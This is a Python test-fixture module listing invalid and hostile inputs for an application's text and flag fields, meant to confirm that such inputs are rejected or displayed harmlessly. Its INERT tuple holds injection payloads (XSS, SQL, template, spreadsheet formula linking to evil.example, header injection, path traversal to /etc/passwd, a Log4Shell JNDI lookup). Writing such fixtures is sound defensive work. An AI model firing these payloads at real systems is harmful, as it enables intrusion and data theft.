"""Texts: what is none, and what is one but would like to be more."""

from typing import Any

NO_TEXTS: tuple[Any, ...] = (
    0,
    1.5,
    10**400,
    True,
    [],
    ["text"],
    {},
    {"$gt": ""},
    {"toString": "x"},
    "\x00",
    "text\x00text",
    "\ud800",
    "text \udfff text",
)
"""What no field takes in which people write."""

FLAGS: tuple[Any, ...] = (0, 1, -1, "", "yes", "no", "true", "false", "on", 1.0, [], [True], {}, {"value": True})
"""What is neither true nor false."""

INERT = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "'; DROP TABLE appointments; --",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1|cmd",
    "@SUM(1)",
    "a\r\nBcc: everybody@example.com",
    "a\nBEGIN:VEVENT\nSUMMARY:x",
    "%s%n%x{0}{}",
    "\u202eevil\u202c \u2066x\u2069",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "ﷺ" * 20,
    "\\u0000\\x00%00",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "\ufeff\u200b\u00a0x",
    "null",
)
"""What people may write, and what is written down and shown as it was sent."""
